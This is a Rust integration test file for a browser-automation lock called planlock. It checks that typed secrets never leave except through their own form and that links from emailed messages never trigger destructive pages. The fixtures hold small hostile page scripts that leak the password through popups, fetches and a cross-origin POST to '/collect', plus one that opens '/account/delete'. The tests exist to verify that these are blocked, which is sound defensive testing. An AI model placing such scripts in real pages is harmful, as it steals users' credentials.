//! One gate for every target of a run, on real Chromium: the lock, the rule that a typed value
//! leaves only through its form, and the rule that an emailed link never leads to a page that
//! undoes, judged alike for the run's tab, the popups its pages open, their frames and workers.
//! Each attack is read from the site's own log of what it received (a loopback server), not
//! only from planlock's events; and a site that signs in by AJAX, or re-posts what was typed to
//! its own hidden form as Misago does, still works.

use std::collections::BTreeMap;
use std::net::SocketAddr;
use std::time::Duration;

use planlock::error::ErrorKind;
use planlock::inbox::smtp::SmtpInbox;
use planlock::plan::{self, Limits, Plan, Vars};
use planlock::runner::{self, RunResult, RunSpec, RunStatus, Secrets, Settings};

use crate::util::recorded::Recorded;
use crate::util::{self, need_browser};

/// The secret the plans type; long enough to be found in any encoding.
const PW: &str = "Tr0ub4dor-Gate-7719";

/// How long a request the gate let through would take to show up in the site's log.
const GRACE: Duration = Duration::from_millis(400);

fn settings() -> Settings {
    Settings {
        step_timeout: Duration::from_secs(4),
        ..Settings::default()
    }
}

/// A plan with `{SITE}` (the recorded site's origin) filled in.
fn plan_on(site: &Recorded, json: &str) -> Plan {
    let json = json.replace("{SITE}", &site.url(""));
    plan::parse_and_validate(&json, &Limits::default(), &Vars::default())
        .unwrap_or_else(|e| panic!("test plan is invalid: {e}\n{json}"))
}

fn spec(plan: Plan) -> RunSpec {
    RunSpec::new(plan)
        .run_id(runner::new_run_id())
        .secrets(Secrets::none().with_given(BTreeMap::from([("PW".to_string(), PW.to_string())])))
        .settings(settings())
}

fn dump(result: &RunResult) -> String {
    serde_json::to_string_pretty(result).unwrap()
}

/// The run failed with `lock_refused`, its sentence containing every one of `says`.
fn assert_refused_with(result: &RunResult, says: &[&str]) {
    assert_eq!(result.status, RunStatus::Failed, "{}", dump(result));
    let error = result.error.as_ref().expect("an error");
    assert_eq!(error.kind, ErrorKind::LockRefused, "{}", dump(result));
    for said in says {
        assert!(
            error.message.contains(said),
            "the sentence says {said:?}: {}",
            error.message
        );
    }
    assert!(result.refused >= 1, "counted as refused: {}", dump(result));
}

/// Nothing the site (or the other site) received carries `needle`, after a grace for late
/// requests.
fn assert_never_received(sites: &[&Recorded], needle: &str) {
    std::thread::sleep(GRACE);
    for site in sites {
        let got = site.hits_with(needle);
        assert!(got.is_empty(), "{} received {needle:?}: {got:?}", site.addr);
    }
}

/// A log-in form; `script` runs in the page (`pw` and `u` are the fields, `f` the form).
fn login_page(script: &str) -> String {
    format!(
        r#"<!doctype html><html><head><meta charset="utf-8"><title>Log in</title></head><body>
<h1>Log in</h1>
<form id="f" action="/session" method="post">
<label for="u">Username</label> <input id="u" name="username">
<label for="pw">Password</label> <input id="pw" name="password" type="password">
<button type="submit">Log in</button>
</form>
<p id="out"></p>
<script>{script}</script>
</body></html>"#
    )
}

const TYPE_AND_WAIT: &str = r#"{"reasoning":"","steps":[
    {"type":"navigate","url":"{SITE}/login"},
    {"type":"fill","describe":"the Password field","label":"Password","value":"{{secret.PW}}"},
    {"type":"wait_seconds","seconds":1},
    {"type":"done","summary":"typed"}]}"#;

const AJAX_LOGIN: &str = r#"{"reasoning":"","steps":[
    {"type":"navigate","url":"{SITE}/login"},
    {"type":"fill","describe":"the Username field","label":"Username","value":"ada"},
    {"type":"fill","describe":"the Password field","label":"Password","value":"{{secret.PW}}"},
    {"type":"click","describe":"the Log in button","text":"Log in"},
    {"type":"wait_for_text","text":"Welcome back"},
    {"type":"done","summary":"signed in"}]}"#;

/// The AJAX sign-in every test below starts from: the form's submission sent by `fetch`.
const AJAX_SUBMIT: &str = "f.addEventListener('submit', async (e) => { e.preventDefault(); \
    const r = await fetch('/api/login', {method: 'POST', headers: {'content-type': \
    'application/json'}, body: JSON.stringify({username: u.value, password: pw.value})}); \
    out.textContent = r.ok ? 'Welcome back' : 'Failed'; });";

#[test]
fn a_popup_carrying_the_secret_is_refused_and_never_reaches_the_site() {
    need_browser!();
    util::rt().block_on(async {
        let site = Recorded::start("127.0.0.1").await;
        site.page(
            "/login",
            login_page(
                "pw.addEventListener('change', () => \
                 window.open('/ok?leak=' + encodeURIComponent(pw.value)));",
            ),
        );
        let (result, _) = util::run_locked(spec(plan_on(&site, TYPE_AND_WAIT))).await;
        assert_never_received(&[&site], PW);
        assert_never_received(&[&site], "/ok?leak");
        assert_refused_with(
            &result,
            &[
                "/ok carries a value this run typed",
                "a popup the page opened",
            ],
        );
    });
}

#[test]
fn a_popup_to_an_undoing_page_after_an_emailed_link_fails_the_run() {
    need_browser!();
    util::rt().block_on(async {
        let smtp = SmtpInbox::start(SocketAddr::from(([127, 0, 0, 1], 0)), "inbox.test")
            .await
            .unwrap();
        let site = Recorded::start("127.0.0.1").await;
        site.mail_through(smtp.local_addr());
        site.page(
            "/confirm",
            "<!doctype html><title>Confirmed</title><h1>Email verified</h1>\
             <script>window.open('/account/delete?confirm=1');</script>",
        );
        let plan = plan_on(
            &site,
            r#"{"reasoning":"","steps":[
            {"type":"navigate","url":"{SITE}/signup?to={{inbox_address}}"},
            {"type":"wait_for_text","text":"Check your inbox"},
            {"type":"open_link_from_inbox","timeout_seconds":20},
            {"type":"wait_for_text","text":"Email verified"},
            {"type":"wait_seconds","seconds":1},
            {"type":"done","summary":"verified"}]}"#,
        );
        let (result, _) = util::run_locked(spec(plan).inbox(None, smtp.clone())).await;
        assert_never_received(&[&site], "/account/delete");
        assert!(
            !site.hits_with("GET /confirm").is_empty(),
            "the emailed link itself was opened: {:?}",
            site.hits()
        );
        assert_refused_with(
            &result,
            &[
                "/account/delete",
                "a link from an email is never followed",
                "a popup the page opened",
            ],
        );
    });
}

#[test]
fn a_frame_outside_the_lock_is_not_loaded_counted_and_fails_nothing() {
    need_browser!();
    util::rt().block_on(async {
        let site = Recorded::start("127.0.0.1").await;
        let other = Recorded::start("127.0.0.2").await;
        site.page(
            "/home",
            format!(
                "<!doctype html><title>Home</title><h1>Home</h1>\
                 <iframe src=\"{}\"></iframe>",
                other.url("/ad")
            ),
        );
        let plan = plan_on(
            &site,
            r#"{"reasoning":"","steps":[
            {"type":"navigate","url":"{SITE}/home"},
            {"type":"wait_for_text","text":"Home"},
            {"type":"wait_seconds","seconds":0.5},
            {"type":"done","summary":"home"}]}"#,
        );
        let (result, _) = util::run_locked(spec(plan)).await;
        assert_never_received(&[&other], "/ad");
        util::assert_succeeded(&result);
        assert!(
            result.refused >= 1,
            "the frame is counted: {}",
            dump(&result)
        );
    });
}

#[test]
fn an_ajax_sign_in_sends_the_secret_by_fetch_on_submit() {
    need_browser!();
    util::rt().block_on(async {
        let site = Recorded::start("127.0.0.1").await;
        site.page("/login", login_page(AJAX_SUBMIT));
        let (result, _) = util::run_locked(spec(plan_on(&site, AJAX_LOGIN))).await;
        util::assert_succeeded(&result);
        assert_eq!(result.refused, 0, "{}", dump(&result));
        let sent = site.hits_with(PW);
        assert_eq!(sent.len(), 1, "{sent:?}");
        assert!(sent[0].starts_with("POST /api/login "), "{sent:?}");
    });
}

#[test]
fn a_fetch_with_the_secret_while_typing_is_refused_and_counted() {
    need_browser!();
    util::rt().block_on(async {
        let site = Recorded::start("127.0.0.1").await;
        site.page(
            "/login",
            login_page(&format!(
                "{AJAX_SUBMIT} pw.addEventListener('input', () => \
                 fetch('/api/strength?pw=' + encodeURIComponent(pw.value)).catch(() => {{}}));"
            )),
        );
        let (result, _) = util::run_locked(spec(plan_on(&site, AJAX_LOGIN))).await;
        assert_never_received(&[&site], "/api/strength");
        util::assert_succeeded(&result);
        assert!(result.refused >= 1, "counted: {}", dump(&result));
        let sent = site.hits_with(PW);
        assert_eq!(sent.len(), 1, "only the sign-in carried it: {sent:?}");
        assert!(sent[0].starts_with("POST /api/login "), "{sent:?}");
    });
}

#[test]
fn a_fetch_with_the_secret_to_another_site_during_the_submission_is_refused() {
    need_browser!();
    util::rt().block_on(async {
        let site = Recorded::start("127.0.0.1").await;
        let other = Recorded::start("127.0.0.2").await;
        site.page(
            "/login",
            login_page(&format!(
                "{AJAX_SUBMIT} f.addEventListener('submit', () => fetch('{}', {{method: \
                 'POST', mode: 'no-cors', body: btoa(pw.value)}}).catch(() => {{}}));",
                other.url("/collect")
            )),
        );
        let (result, _) = util::run_locked(spec(plan_on(&site, AJAX_LOGIN))).await;
        assert_never_received(&[&other], "/collect");
        util::assert_succeeded(&result);
        assert!(result.refused >= 1, "counted: {}", dump(&result));
        assert_eq!(site.hits_with(PW).len(), 1, "{:?}", site.hits());
    });
}

/// Misago's sign-in: the dialog posts by AJAX, then the site's own script copies what was
/// typed into its hidden log-in form and submits it, a POST to the same origin.
fn misago_page(more: &str) -> String {
    format!(
        r#"<!doctype html><html><head><meta charset="utf-8"><title>Forum</title></head><body>
<h1>Forum</h1>
<form id="dialog">
<label for="u">Username</label> <input id="u">
<label for="pw">Password</label> <input id="pw" type="password">
<button type="submit">Sign in</button>
</form>
<form id="hidden-login-form" action="/login/" method="post" style="display: none">
<input name="username"> <input name="password" type="password">
</form>
<script>
dialog.addEventListener('submit', async (e) => {{
  e.preventDefault();
  {more}
  await fetch('/api/auth/', {{method: 'POST', headers: {{'content-type': 'application/json'}},
    body: JSON.stringify({{username: u.value, password: pw.value}})}});
  const h = document.getElementById('hidden-login-form');
  h.username.value = u.value;
  h.password.value = pw.value;
  h.submit();
}});
</script>
</body></html>"#
    )
}

const MISAGO_SIGN_IN: &str = r#"{"reasoning":"","steps":[
    {"type":"navigate","url":"{SITE}/forum"},
    {"type":"fill","describe":"the Username field","label":"Username","value":"ada"},
    {"type":"fill","describe":"the Password field","label":"Password","value":"{{secret.PW}}"},
    {"type":"click","describe":"the Sign in button","text":"Sign in"},
    {"type":"wait_for_text","text":"You reached /signed-in"},
    {"type":"done","summary":"signed in"}]}"#;

#[test]
fn a_site_reposting_the_secret_to_its_own_hidden_form_during_the_click_signs_in() {
    need_browser!();
    util::rt().block_on(async {
        let site = Recorded::start("127.0.0.1").await;
        site.page("/forum", misago_page(""));
        let (result, _) = util::run_locked(spec(plan_on(&site, MISAGO_SIGN_IN))).await;
        util::assert_succeeded(&result);
        let sent = site.hits_with(PW);
        assert_eq!(sent.len(), 2, "{sent:?}");
        assert!(sent[0].starts_with("POST /api/auth/ "), "{sent:?}");
        assert!(sent[1].starts_with("POST /login/ "), "{sent:?}");
    });
}

#[test]
fn a_get_carrying_the_secret_during_the_click_is_still_refused() {
    need_browser!();
    util::rt().block_on(async {
        let site = Recorded::start("127.0.0.1").await;
        site.page(
            "/forum",
            misago_page("window.open('/ok?leak=' + encodeURIComponent(pw.value));"),
        );
        let (result, _) = util::run_locked(spec(plan_on(&site, MISAGO_SIGN_IN))).await;
        assert_never_received(&[&site], "/ok?leak");
        assert_refused_with(&result, &["/ok carries a value this run typed"]);
    });
}
